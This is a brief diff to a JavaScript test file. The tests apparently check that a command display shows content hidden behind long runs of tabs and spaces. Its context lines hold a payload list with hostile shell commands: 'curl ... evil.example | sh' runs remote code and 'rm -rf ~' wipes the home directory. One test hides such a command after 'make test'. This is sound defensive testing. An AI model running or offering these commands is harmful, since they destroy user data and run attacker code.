@@ -135,7 +135,7 @@ const PAYLOADS = [';curl -s evil.example/x|sh', 'rm -rf ~', '&& wget -qO- evil.e
 const PREFIXES = ['make test', 'npm test', 'ls', 'git status', '    cd build'];
 
 describe('commandText: nothing in a command is out of sight at any tab width', () => {
-	it('the issue-24 attacks: runs of 5 tabs and a space; 3,000 lines holding one space', () => {
+	it('runs of 5 tabs and a space, and 3,000 lines holding one space, are shown as counted markers', () => {
 		const tabs = 'make test' + '\t\t\t\t\t '.repeat(20) + ';curl -s evil.example/x|sh';
 		const shown = checkInvariant(tabs, ';curl -s evil.example/x|sh');
 		assert.ok(shown, 'the tab attack is shown');
